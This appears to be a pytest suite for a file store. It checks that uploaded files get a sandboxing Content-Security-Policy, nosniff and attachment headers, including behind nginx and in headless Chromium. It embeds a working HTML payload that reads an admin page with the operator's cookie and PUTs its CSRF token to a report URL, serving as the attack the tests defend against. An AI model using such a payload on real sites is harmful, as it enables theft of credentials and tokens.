"""Uploaded bytes are served inert: every answer with a file's bytes or headers carries a sandboxing
Content-Security-Policy and nosniff, and types a browser would run (HTML, SVG, XML, JavaScript)
are attachments unless the plan's rule says `inline = true`. Against a real uvicorn, through the
shipped nginx config, and in headless Chromium signed in to the admin page on the same origin:
an uploaded page's script never runs there, so it never reads the admin page or its CSRF token.
"""

from __future__ import annotations

import base64
import contextlib
import email.message
import re
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote

import httpx
import pytest
from conftest import file_row, wait_for

SANDBOX = "sandbox allow-same-origin; default-src 'none'; img-src 'self'; media-src 'self'"
FILES = {  # path -> (content type, bytes, whether a browser would run it)
    "site/page.html": ("text/html; charset=utf-8", b"<!doctype html><p>hi</p>", True),
    "art/logo.svg": ("image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg'/>", True),
    "js/app.js": ("text/javascript", b"alert(1)", True),
    "img/photo.jpg": ("image/jpeg", b"\xff\xd8\xff\xe0" + bytes(200), False),
}
INLINE_RULE = '[[plan]]\nprefix = "site/"\ninline = true\n'


def _inert_headers(reply: httpx.Response, name: str, active: bool) -> None:
    """The headers every answer with a file's bytes or headers carries, each exactly once."""
    assert reply.headers.get_list("content-security-policy") == [SANDBOX]
    assert reply.headers.get_list("x-content-type-options") == ["nosniff"]
    expected = [f'attachment; filename="{name}"'] if active else []
    assert reply.headers.get_list("content-disposition") == expected


def _every_answer(client: httpx.Client, path: str) -> Iterator[httpx.Response]:
    """GET, HEAD, a 206 of one range and of two, a 304 by ETag and by date."""
    whole = client.get(f"/files/{path}")
    assert whole.status_code == 200
    yield whole
    head = client.head(f"/files/{path}")
    assert head.status_code == 200
    yield head
    for ranges in ("bytes=0-3", "bytes=0-0,2-3"):
        partial = client.get(f"/files/{path}", headers={"range": ranges})
        assert partial.status_code == 206
        yield partial
    for condition in ({"if-none-match": whole.headers["etag"]},
                      {"if-modified-since": whole.headers["last-modified"]}):
        for method in ("GET", "HEAD"):
            unchanged = client.request(method, f"/files/{path}", headers=condition)
            assert unchanged.status_code == 304
            yield unchanged


def test_every_file_answer_is_sandboxed_and_active_types_are_attachments(server: Any) -> None:
    with server.client() as client:
        for path, (content_type, body, _) in FILES.items():
            assert client.put(f"/files/{path}", content=body,
                              headers={"content-type": content_type}).status_code == 201
        for path, (_, _, active) in FILES.items():
            for reply in _every_answer(client, path):
                _inert_headers(reply, path.rpartition("/")[2], active)
        # A range past the end: no bytes, but the answer is the file's all the same.
        beyond = client.get("/files/img/photo.jpg", headers={"range": "bytes=5000-"})
        assert beyond.status_code == 416
        assert beyond.headers["content-security-policy"] == SANDBOX


def test_a_type_guessed_from_the_name_is_judged_too(server: Any) -> None:
    with server.client() as client:
        for path in ("guess/page.html", "guess/page.xhtml", "guess/pic.svg", "guess/app.js"):
            assert client.put(f"/files/{path}", content=b"<x/>").status_code == 201
            reply = client.get(f"/files/{path}")
            assert reply.headers["content-disposition"].startswith("attachment"), path
        assert client.put("/files/guess/photo.png", content=b"\x89PNG").status_code == 201
        assert "content-disposition" not in client.get("/files/guess/photo.png").headers


# Content-Type value as uploaded -> whether it is served as an attachment.
CONTENT_TYPES = [
    ("text/html", True), ("TEXT/HTML; charset=utf-8", True), ("text/html ;x=y", True),
    ("application/xhtml+xml", True), ("image/svg+xml", True), ("text/xml", True),
    ("application/xml", True), ("application/rss+xml", True), ("application/atom+xml", True),
    ("application/mathml+xml", True), ("text/xsl", True),
    ("text/javascript", True), ("application/javascript", True),
    ("application/ecmascript", True), ("text/ecmascript", True),
    ("application/x-javascript", True), ("text/jscript", True),
    ("multipart/x-mixed-replace; boundary=frame", True), ("multipart/related", True),
    ("message/rfc822", True),
    # A browser takes the last valid type of a list: this is HTML to it.
    ("image/png, text/html", True), ("text/plain,text/html", True),
    # No clean type: a browser would sniff.
    ("*/*", True), ("unknown/unknown", True), ("application/unknown", True), ("html", True),
    ("text /html", True), ("text/html\u00e9", True), (",", True),
    ("image/jpeg", False), ("image/png", False), ("video/mp4", False), ("audio/mpeg", False),
    ("application/octet-stream", False), ("text/plain; charset=utf-8", False),
    ("application/json", False), ("text/css", False), ("application/pdf", False),
    ("image/jpeg, image/png", False),
]


def test_which_types_are_attachments(server: Any) -> None:
    with server.client() as client:
        for n, (content_type, attached) in enumerate(CONTENT_TYPES):
            path = f"types/{n}.bin"
            reply = client.put(f"/files/{path}", content=b"<b>x</b>",
                               headers={"content-type": content_type.encode("latin-1")})
            assert reply.status_code == 201, content_type
            got = client.get(f"/files/{path}")
            assert got.headers["content-security-policy"] == SANDBOX
            assert ("content-disposition" in got.headers) is attached, content_type


@pytest.mark.parametrize("name", ["plain name.html", "été \"quoted\" 100%.html", "漢字.svg",
                                  "semi;colon,comma.js", "back`tick'apos.html"])
def test_the_attachment_is_named_after_the_last_segment(server: Any, name: str) -> None:
    path = f"deep/dir/{name}"
    with server.client() as client:
        assert client.put(f"/files/{quote(path)}", content=b"<p>",
                          headers={"content-type": "text/html"}).status_code == 201
        value = client.get(f"/files/{quote(path)}").headers["content-disposition"]
    # ASCII; `filename` a quoted stand-in, `filename*` (RFC 8187) the name itself, which RFC
    # 6266 clients prefer, whenever the stand-in is not the name.
    assert value.isascii()
    found = re.fullmatch(r'attachment; filename="([^"\\%]*)"'
                         r"(?:; filename\*=UTF-8''([A-Za-z0-9!#$&+.^_`|~%-]+))?", value)
    assert found is not None, value
    fallback, encoded = found.groups()
    assert len(fallback) == len(name)
    assert (unquote(encoded, errors="strict") if encoded else fallback) == name
    message = email.message.Message()
    message["content-disposition"] = value
    assert message.get_content_disposition() == "attachment"


def test_an_inline_rule_serves_active_types_inline_and_still_sandboxed(
        make_server: Any, tmp_path: Path) -> None:
    config = tmp_path / "inline.toml"
    config.write_text(INLINE_RULE)
    server = make_server(config=config)
    with server.client() as client:
        for path in ("site/index.html", "site/deep/logo.svg", "other/index.html"):
            content_type = "image/svg+xml" if path.endswith(".svg") else "text/html"
            assert client.put(f"/files/{path}", content=b"<p>hi</p>",
                              headers={"content-type": content_type}).status_code == 201
        for path, active in (("site/index.html", False), ("site/deep/logo.svg", False),
                             ("other/index.html", True)):
            for reply in _every_answer(client, path):
                _inert_headers(reply, path.rpartition("/")[2], active)


# -- behind nginx (the shipped deploy/nginx.conf) -------------------------------------------------


def test_x_accel_answers_carry_the_same_headers_through_nginx(
        make_server: Any, tmp_path: Path) -> None:
    from test_accel import NGINX, PREFIX, Nginx

    if NGINX is None:
        pytest.skip("nginx is not installed (CI installs it: apt-get install -y nginx)")
    config = tmp_path / "inline.toml"
    config.write_text(INLINE_RULE)
    server = make_server(config=config, server__accel_redirect=PREFIX)
    nginx = Nginx(tmp_path / "nginx", server.port, server.settings.data_dir)
    try:
        with nginx.client(server.token) as client:
            files = {**{p: v for p, v in FILES.items() if p != "site/page.html"},
                     "site/page.html": ("text/html", b"<p>inline</p>", False),
                     "page.html": ("text/html", b"<p>attached</p>", True)}
            for path, (content_type, body, _) in files.items():
                assert client.put(f"/files/{path}", content=body,
                                  headers={"content-type": content_type}).status_code == 201
            for path, (_, body, active) in files.items():
                for count, headers in enumerate(({}, {"range": "bytes=1-3"}), 1):
                    reply = client.get(f"/files/{path}", headers=headers)
                    assert reply.status_code == (206 if headers else 200)
                    assert reply.content == (body[1:4] if headers else body)
                    assert nginx.served(f"/files/{path}", count) == "nginx", path
                    _inert_headers(reply, path.rpartition("/")[2], active)
    finally:
        nginx.stop()


# -- in a browser: the admin page's own origin, an operator signed in ----------------------------

# The attack of the issue: a page uploaded with a signed PUT URL reads an admin page with the
# operator's cookie and sends its CSRF token to the attacker (here: a file through `{report}`,
# a signed PUT URL). Its first statement retitles the page, so a script that ran at all shows.
STEALER = """<!doctype html><html><head><title>inert</title></head><body><p>a page</p>
<script>
document.title = "script ran";
fetch("/admin/settings", {{credentials: "include"}})
  .then(r => r.text())
  .then(text => {{
    const found = text.match(/data-csrf="([^"]+)"/);
    document.title = found ? "stole " + found[1] : "no csrf";
    return fetch("{report}", {{method: "PUT", body: found ? found[1] : "none"}});
  }});
</script></body></html>"""


def _sign_in(page: Any, server: Any) -> None:
    from playwright.sync_api import expect

    page.goto(server.url + "/admin")
    page.get_by_label("API token").fill(server.token)
    page.get_by_role("button", name="Sign in").click()
    expect(page).to_have_url(server.url + "/admin")


@pytest.mark.timeout(120)
def test_an_uploaded_page_never_runs_as_the_admin_origin(
        browser: Any, make_server: Any, tmp_path: Path) -> None:
    from playwright.sync_api import Error as PlaywrightError

    config = tmp_path / "inline.toml"
    config.write_text(INLINE_RULE)
    server = make_server(config=config)  # the admin page on the files' own origin
    report = server.service.signing.sign("PUT", "stolen.txt", int(time.time() + 600), server.url)
    page_html = STEALER.format(report=report).encode()
    with server.client() as client:
        for path in ("steal.html", "site/steal.html"):
            assert client.put(f"/files/{path}", content=page_html,
                              headers={"content-type": "text/html"}).status_code == 201

    context = browser.new_context(accept_downloads=True)
    try:
        page = context.new_page()
        page.set_default_timeout(20_000)
        _sign_in(page, server)
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))

        # The control: the very page, served from this origin without filestore's headers,
        # does steal the token (so the browser, the cookie and the script are as in the issue).
        control = server.url + "/files/control.html"
        page.route(control, lambda route: route.fulfill(
            status=200, content_type="text/html", body=page_html))
        page.goto(control)
        page.wait_for_function("document.title.startsWith('stole ')")
        wait_for(lambda: file_row(server, "stolen.txt"))
        stolen = (server.settings.data_dir / "files" / "stolen.txt").read_bytes()
        assert stolen and page.title() == "stole " + stolen.decode()
        with server.client() as client:
            assert client.delete("/files/stolen.txt").status_code == 204
        page.goto("about:blank")
        asked.clear()

        # By default an HTML file is a download: nothing of it runs anywhere.
        with page.expect_download() as download, contextlib.suppress(PlaywrightError):
            page.goto(server.url + "/files/steal.html")  # "Download is starting"
        assert download.value.suggested_filename == "steal.html"
        assert page.url == "about:blank"  # nothing was rendered

        # `inline = true`: it renders, sandboxed; its script never runs (it would have
        # retitled the page before the load event), so it fetches nothing.
        # Chromium says why, and its saying so is awaited rather than slept for.
        with page.expect_console_message(lambda message: "sandboxed" in message.text
                                         and "allow-scripts" in message.text):
            reply = page.goto(server.url + "/files/site/steal.html", wait_until="load")
        assert reply is not None and reply.status == 200
        assert reply.headers["content-security-policy"] == SANDBOX
        assert page.title() == "inert"
        assert page.get_by_text("a page").is_visible()
        assert [url for url in asked if "/admin" in url or "stolen" in url] == []
        assert file_row(server, "stolen.txt") is None
    finally:
        context.close()


@pytest.mark.timeout(60)
def test_an_image_still_shows_in_the_browser(browser: Any, server: Any) -> None:
    page = browser.new_page()
    try:
        # A real JPEG, from the browser's own encoder.
        data_url = page.evaluate("""() => {
            const canvas = document.createElement("canvas");
            canvas.width = 40; canvas.height = 30;
            canvas.getContext("2d").fillRect(0, 0, 40, 30);
            return canvas.toDataURL("image/jpeg"); }""")
        with server.client() as client:
            assert client.put("/files/img/shown.jpg", content=base64.b64decode(
                data_url.split(",", 1)[1])).status_code == 201
        reply = page.goto(server.url + "/files/img/shown.jpg")
        assert reply is not None and reply.headers["content-security-policy"] == SANDBOX
        assert page.evaluate("document.querySelector('img').naturalWidth") == 40
    finally:
        page.close()


def _wav(seconds: float = 0.5, rate: int = 8000) -> bytes:
    """A real WAV file: a tone, 16-bit mono."""
    import io
    import math
    import struct
    import wave

    out = io.BytesIO()
    with wave.open(out, "wb") as wav:
        wav.setnchannels(1)
        wav.setsampwidth(2)
        wav.setframerate(rate)
        wav.writeframes(b"".join(struct.pack("<h", int(8000 * math.sin(i / 10)))
                                 for i in range(int(seconds * rate))))
    return out.getvalue()


@pytest.mark.timeout(60)
def test_a_recording_opened_directly_still_plays(browser: Any, server: Any) -> None:
    """The sandbox keeps media playable: a call recording opened from a link loads in the
    browser's own player (with an opaque origin and no media-src it would not load at all)."""
    page = browser.new_page()
    try:
        with server.client() as client:
            assert client.put("/files/rec/call.wav", content=_wav(),
                              headers={"content-type": "audio/wav"}).status_code == 201
        reply = page.goto(server.url + "/files/rec/call.wav")
        assert reply is not None and reply.headers["content-security-policy"] == SANDBOX
        page.wait_for_function("() => { const m = document.querySelector('video, audio');"
                               " return m !== null && m.readyState >= 1 && m.duration > 0.4; }",
                               timeout=10_000)
    finally:
        page.close()
